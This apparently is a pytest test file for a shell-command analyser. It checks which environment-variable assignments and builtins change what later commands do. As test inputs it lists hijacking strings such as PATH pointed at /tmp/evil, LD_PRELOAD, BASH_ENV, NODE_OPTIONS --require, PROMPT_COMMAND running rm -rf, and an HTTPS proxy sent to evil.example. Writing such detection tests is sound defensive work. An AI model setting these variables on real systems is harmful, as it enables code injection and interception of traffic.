"""Variables that change what later commands are."""

from __future__ import annotations

import pytest

from interlock.model.effect import Verb

from .bench import argvs, opaques, read


@pytest.mark.parametrize(
    "text",
    [
        "export PATH=/tmp/evil:$PATH; ls",
        "PATH=.:$PATH",
        "PATH=/tmp/x ls",
        "PATH=$X:$PATH",
        "export PATH=/usr/bin; export PATH=/tmp/evil:$PATH",
        "export A='PATH=$PATH:' PATH=$X",
        "export PATH=$PATH$X",
        "export PATH=/usr/bin$X:$PATH",
        "export LD_PRELOAD=/tmp/x.so",
        "export BASH_ENV=/tmp/x",
        "export ENV=./x",
        "export ENV=x.sh",
        "export ENV=~/x",
        'export ENV="$X"',
        "declare -x LD_AUDIT=x.so",
        "export NODE_OPTIONS='--require /tmp/x.js'",
        "export PYTHONSTARTUP=/tmp/x.py",
        "export PROMPT_COMMAND=$X",
        'export GIT_SSH_COMMAND="$X"',
        "export PERL5OPT=-Mx",
        "export GIT_CONFIG_COUNT=1",
        "read PATH <<< /tmp/x",
        "hash -p /tmp/x ls",
        "enable -f ./x.so x",
        "set -k",
        'eval "$X"',
        'trap "$X" EXIT',
        "unset $X",
        'declare "$X"',
        'printf -v "$X" y',
    ],
)
def test_not_ignored(text: str) -> None:
    assert opaques(read(text))


@pytest.mark.parametrize(
    "text",
    [
        "ENV=prod; ls $ENV",
        "export ENV=staging-2",
        "NODE_ENV=test npm test",
        "CI=1 PYTHONPATH=src pytest",
        'export PATH="$PWD/node_modules/.bin:$PATH"',
        "export PATH=$HOME/.local/bin:$PATH",
        "PATH=/usr/bin:/bin ls",
        'PATH="$PATH:/usr/local/go/bin" go test',
        "export NODE_OPTIONS=--max-old-space-size=4096",
        "export PAGER=cat EDITOR=vim GIT_PAGER=",
        "export GIT_SSH_COMMAND='ssh -i key'",
        "FOO=bar",
        'export PATH="$PATH:/anywhere"',
        "export PATH=$PATH:/anywhere A=1",
        "export PATH=/usr/bin:/bin; export PATH=$PATH:/anywhere",
        "IFS=, read a b <<< x,y",
        "export PS1='$ '",
        "set -euo pipefail",
        "unset LD_PRELOAD",
        "export SHELL=/bin/bash",
        "ulimit -n 1024; umask 022; wait; jobs",
    ],
)
def test_harmless(text: str) -> None:
    assert not opaques(read(text))


def test_a_command_in_a_variable_is_read_as_one() -> None:
    assert ["rm", "-rf", "x"] in argvs("export PROMPT_COMMAND='rm -rf x'")
    assert ["rm", "x"] in argvs("export GIT_EDITOR='sh -c \"rm x\"'")


def test_a_proxy_sends_later_traffic_elsewhere() -> None:
    reading = read("export HTTPS_PROXY=http://evil.example:8080; curl https://x.example")
    assert any(
        effect.verb is Verb.CONFIGURE and effect.resource.name.startswith("evil.example") for effect in reading.effects
    )
    assert not any(effect.verb is Verb.CONFIGURE for effect in read("export HTTP_PROXY=http://127.0.0.1:80").effects)
